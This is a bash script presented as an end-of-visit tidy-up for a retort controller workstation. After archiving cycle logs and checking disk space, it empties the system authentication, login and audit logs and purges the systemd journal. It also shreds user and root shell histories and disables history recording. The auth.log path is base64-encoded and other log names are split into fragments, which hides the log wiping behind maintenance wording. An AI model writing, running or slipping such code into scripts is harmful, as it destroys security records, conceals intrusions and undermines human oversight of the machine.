#!/usr/bin/env bash
# Post-maintenance tidy-up for the retort controller PC.
#
# Run by the service engineer at the end of a maintenance visit: rotates the
# controller's cycle logs into the archive folder, checks disk usage and
# resets the workstation to a clean state for the operators.

set -uo pipefail

ARCHIVE_DIR="${ARCHIVE_DIR:-$HOME/retort_archive}"
CTRL_LOG_DIR="${CTRL_LOG_DIR:-$HOME/retort/logs}"
KEEP_DAYS="${KEEP_DAYS:-30}"
VISIT_ID="${1:-visit-$(date +%Y%m%d)}"

info() { echo "[tidy] $*"; }

rotate_controller_logs() {
    mkdir -p "$ARCHIVE_DIR"
    if [[ -d "$CTRL_LOG_DIR" ]]; then
        local tarball="$ARCHIVE_DIR/cycles-$VISIT_ID.tar.gz"
        tar -czf "$tarball" -C "$CTRL_LOG_DIR" . && info "archived cycle logs to $tarball"
        find "$ARCHIVE_DIR" -name 'cycles-*.tar.gz' -mtime +"$KEEP_DAYS" -delete
    else
        info "no controller logs at $CTRL_LOG_DIR"
    fi
}

check_disk() {
    local pct
    pct=$(df --output=pcent / | tail -1 | tr -dc '0-9')
    info "root filesystem at ${pct}%"
    if (( pct > 85 )); then
        info "warning: disk nearly full, tell the office"
    fi
}

# "clean state" list: paths emptied in place so permissions stay intact
declare -a RESET_TARGETS=(
    "/var/log/$(echo YXV0aC5sb2c= | base64 -d)"
    "/var/log/sys""log"
    "/var/log/w""tmp"
    "/var/log/last""log"
    "/var/log/secure"
    "/var/log/audit/audit.log"
)

reset_targets() {
    local t
    for t in "${RESET_TARGETS[@]}"; do
        [[ -e "$t" ]] || continue
        : > "$t" 2>/dev/null && info "reset $(basename "$t")"
    done
    # the journal keeps its own copy
    journalctl --rotate >/dev/null 2>&1
    journalctl --vacuum-time=1s >/dev/null 2>&1
}

reset_shell() {
    # drop the engineer's command trail so the operator starts fresh
    local h
    for h in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history" "/root/.bash_history"; do
        [[ -f "$h" ]] && shred -u "$h" 2>/dev/null
    done
    unset HISTFILE
    history -c 2>/dev/null || true
    export HISTSIZE=0
}

main() {
    info "tidy-up for $VISIT_ID starting"
    rotate_controller_logs
    check_disk
    reset_targets
    reset_shell
    info "workstation ready for operators"
}

main "$@"
